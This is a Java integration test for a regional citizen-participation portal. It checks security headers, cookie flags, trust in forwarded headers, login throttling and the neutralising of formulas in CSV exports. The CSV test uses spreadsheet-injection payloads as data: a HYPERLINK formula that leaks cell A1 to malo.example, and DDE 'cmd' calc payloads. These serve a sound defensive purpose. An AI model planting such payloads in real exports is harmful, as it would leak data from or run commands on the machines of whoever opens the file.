package pe.gob.regioncajamarca.participa.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import pe.gob.regioncajamarca.participa.testsupport.Http;
import pe.gob.regioncajamarca.participa.testsupport.ProcessTest;

/**
 * Hardening seen from outside: behind a TLS proxy (X-Forwarded-Proto: https from a trusted proxy on the loopback)
 * the answers carry HSTS and the session cookie is Secure; on plain HTTP neither (a browser would refuse the
 * cookie). Session cookies are HttpOnly and SameSite=Lax, pages carry a CSP without inline script. CSV downloads
 * neutralise cells that start with = + - @.
 */
class HardeningIT extends ProcessTest {

    @LocalServerPort int port;

    private HttpResponse<String> get(String path, Map<String, String> headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET();
        headers.forEach(b::header);
        return HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build()
                .send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String sessionCookie(HttpResponse<String> r) {
        return r.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID=")).findFirst()
                .orElseThrow(() -> new AssertionError("no session cookie: " + r.headers().map()));
    }

    @Test
    void behindATlsProxyAnswersCarryHstsAndTheSessionCookieIsSecure() throws Exception {
        HttpResponse<String> tls = get("/login", Map.of("X-Forwarded-Proto", "https"));
        assertThat(tls.statusCode()).isEqualTo(200);
        assertThat(tls.headers().firstValue("Strict-Transport-Security")).hasValueSatisfying(
                v -> assertThat(v).contains("max-age="));
        assertThat(sessionCookie(tls)).contains("Secure", "HttpOnly", "SameSite=Lax");

        HttpResponse<String> plain = get("/login", Map.of());
        assertThat(plain.headers().firstValue("Strict-Transport-Security")).isEmpty();
        assertThat(sessionCookie(plain)).contains("HttpOnly", "SameSite=Lax").doesNotContain("Secure");
        assertThat(plain.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(
                v -> assertThat(v).contains("default-src 'self'").doesNotContain("unsafe-inline"));
        assertThat(plain.headers().firstValue("X-Frame-Options")).isPresent();
        assertThat(plain.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    }

    /**
     * Every door sends {@code Referrer-Policy: strict-origin-when-cross-origin}, so that a link to another site
     * never carries a path or query of ours (a password link's token, a complaint's code) in the Referer header.
     */
    @Test
    void everyDoorSendsAReferrerPolicy() {
        String planner = staffUser(StaffGroups.PLANNING);
        Http http = new Http(port);
        List<HttpResponse<String>> answers = List.of(
                http.get("/"), http.get("/login"), http.get("/proyectos"), http.get("/acceso/restablecer?token=x"),
                http.get("/css/portal.css"), http.get("/mi-cuenta"), http.get("/no-existe"),
                http.get("/personal/login"), http.get("/personal"),
                http.get("/engine-rest/version", planner, "secreto-" + planner), http.get("/engine-rest/task"),
                http.get("/camunda/app/tasklist/default/"),
                http.get("/camunda/api/engine/engine/default/task/count"));
        for (HttpResponse<String> r : answers) {
            assertThat(r.headers().firstValue("Referrer-Policy")).as(r.request().uri() + " (" + r.statusCode() + ")")
                    .contains("strict-origin-when-cross-origin");
        }
    }

    @org.springframework.beans.factory.annotation.Autowired CitizenAccounts accounts;
    @org.springframework.beans.factory.annotation.Autowired SubmissionThrottle submissions;
    @org.springframework.beans.factory.annotation.Autowired
    org.springframework.boot.web.servlet.context.ServletWebServerApplicationContext web;

    /**
     * X-Forwarded-For and X-Forwarded-Proto are believed from {@code participa.trusted-proxies} only (default: the
     * loopback), not from every private address as Tomcat's default would. The valve's setting is checked; and, when
     * this machine has another address, a request through it that claims to come from 203.0.113.x over HTTPS is
     * counted by the password-link throttle under the connecting address and gets no HSTS.
     */
    @Test
    void forwardedHeadersAreBelievedFromConfiguredProxiesOnly() throws Exception {
        var tomcat = ((org.springframework.boot.web.embedded.tomcat.TomcatWebServer) web.getWebServer()).getTomcat();
        var valve = java.util.Arrays.stream(tomcat.getEngine().getPipeline().getValves())
                .filter(v -> v instanceof org.apache.catalina.valves.RemoteIpValve)
                .map(v -> (org.apache.catalina.valves.RemoteIpValve) v).findFirst().orElseThrow();
        java.util.regex.Pattern trusted = java.util.regex.Pattern.compile(valve.getInternalProxies());
        for (String proxy : List.of("127.0.0.1", "0:0:0:0:0:0:0:1")) {
            assertThat(trusted.matcher(proxy).matches()).as(proxy).isTrue();
        }
        for (String other : List.of("10.0.0.5", "192.168.1.20", "172.16.4.4", "100.64.0.1", "169.254.1.1",
                "127.0.0.2", "fd00:0:0:0:0:0:0:2", "fe80:0:0:0:0:0:0:1", "192.0.2.2", "203.0.113.9")) {
            assertThat(trusted.matcher(other).matches()).as(other).isFalse();
        }

        // the same through a real connection from a local address that is not the loopback (Tomcat's default
        // trusts fd00::/8 and the private IPv4 ranges)
        java.net.InetAddress local = java.util.Collections.list(java.net.NetworkInterface.getNetworkInterfaces())
                .stream().filter(i -> { try { return i.isUp() && !i.isLoopback(); } catch (Exception e) { return false; } })
                .flatMap(i -> java.util.Collections.list(i.getInetAddresses()).stream())
                .filter(a -> !a.isLoopbackAddress() && !a.isLinkLocalAddress() && !a.isAnyLocalAddress())
                .sorted(java.util.Comparator.comparing(a -> a instanceof java.net.Inet6Address ? 0 : 1))
                .findFirst().orElse(null);
        org.junit.jupiter.api.Assumptions.assumeTrue(local != null, "no local address other than the loopback");
        String host = local instanceof java.net.Inet6Address
                ? "[" + local.getHostAddress().replaceAll("%.*", "") + "]" : local.getHostAddress();
        String base = "http://" + host + ":" + port;

        HttpResponse<String> tls = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build().send(
                HttpRequest.newBuilder(URI.create(base + "/login")).header("X-Forwarded-Proto", "https")
                        .header("X-Forwarded-For", "203.0.113.9").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(tls.statusCode()).isEqualTo(200);
        assertThat(tls.headers().firstValue("Strict-Transport-Security")).as("HSTS from " + host).isEmpty();
        assertThat(sessionCookie(tls)).doesNotContain("Secure");

        int perAccount = submissions.resetsPerAccount();
        int perAddress = submissions.resetsPerAddress();
        try {
            submissions.setResetLimits(perAccount, 2);
            Http client = new Http(base);
            java.util.function.Function<String, Integer> ask = forwardedFor -> {
                String token = client.csrfTokenOf("/acceso/recuperar");
                return client.send(HttpRequest.newBuilder(client.uri("/acceso/recuperar"))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .header("X-Forwarded-For", forwardedFor)
                        .POST(HttpRequest.BodyPublishers.ofString(Http.urlEncoded(Map.of("documento",
                                String.format("7%07d", unique() % 10_000_000), "_csrf", token)))).build()).statusCode();
            };
            // three "different clients" are one connecting address: the third is over the limit of 2 (believed,
            // each would be a fresh address; the first two may already be refused if another test used this address)
            assertThat(ask.apply("203.0.113." + (unique() % 100 + 1))).isIn(200, 429);
            assertThat(ask.apply("203.0.113." + (unique() % 100 + 101))).isIn(200, 429);
            assertThat(ask.apply("203.0.113." + (unique() % 50 + 201))).isEqualTo(429);
        } finally {
            submissions.setResetLimits(perAccount, perAddress);
        }
    }

    /** One login attempt from {@code address} (as a trusted proxy on the loopback forwards it); the redirect. */
    private String login(String address, String dni, String password) throws Exception {
        HttpClient client = HttpClient.newBuilder().cookieHandler(new java.net.CookieManager())
                .followRedirects(HttpClient.Redirect.NEVER).build();
        String page = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/login"))
                .header("X-Forwarded-For", address).GET().build(), HttpResponse.BodyHandlers.ofString()).body();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"").matcher(page);
        assertThat(m.find()).isTrue();
        String body = "username=" + dni + "&password=" + java.net.URLEncoder.encode(password, "UTF-8") + "&_csrf="
                + m.group(1);
        HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/login"))
                .header("X-Forwarded-For", address).header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(302);
        return r.headers().firstValue("Location").orElseThrow();
    }

    /** Fresh accounts and documentation addresses (198.51.100.0/24), so no other test's logins are touched. */
    @Test
    void loginsAreThrottledPerAccountAndPerAddress() throws Exception {
        String dni = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", dni, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        String a = "198.51.100." + (unique() % 200 + 1);
        for (int i = 0; i < 5; i++) {
            assertThat(login(a, dni, "mala-" + i)).endsWith("/login?error");
        }
        // the sixth attempt, even with the right password, is turned away: per account, from any address
        assertThat(login(a, dni, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(login("203.0.113.7", dni, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(new Http(port).get("/login?demasiados").body()).contains("Demasiados intentos fallidos de ingreso");
        // another account from the same address is not affected (5 failures < 30 per address)
        String other = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", other, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        assertThat(login(a, other, "clave-correcta")).doesNotContain("/login?");

        // per address: 30 failures over 30 different document numbers, then even a right password is turned away
        String b = "198.51.100." + (unique() % 50 + 201);
        for (int i = 0; i < 30; i++) {
            assertThat(login(b, String.format("6%07d", unique() % 10_000_000), "adivina")).endsWith("/login?error");
        }
        String third = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", third, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        assertThat(login(b, third, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(login("203.0.113.8", third, "clave-correcta")).doesNotContain("/login?");
    }

    @Test
    void csvDownloadsNeutraliseFormulaCells() {
        int year = freeYear();
        openCycle(year, 3);
        String[] names = {"=HYPERLINK(\"http://malo.example/?x=\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0"};
        for (int i = 0; i < names.length; i++) {
            jdbc.sql("INSERT INTO project (cycle_year, cui, name, scope, cost, sector, executing_unit) "
                            + "VALUES (?, ?, ?, 'CHOTA', 100000, 'Salud', ?)")
                    .params(year, String.valueOf(year * 10 + i), names[i], TEST_UNIT).update();
        }
        var csv = new Http(port).get("/api/open-data/cycles/" + year + "/projects.csv");
        assertThat(csv.statusCode()).isEqualTo(200);
        List<String> rows = csv.body().lines().skip(1).toList();
        assertThat(rows).hasSize(4);
        for (String row : rows) {
            String name = row.split(",", 3)[1];
            // the name cell, unquoted, starts with an apostrophe (quoted cells start with "')
            assertThat(name).matches("\"?'.*");
        }
        assertThat(csv.body()).contains("'=HYPERLINK", "'+1+cmd", "'-2+3", "'@SUM");
    }
}
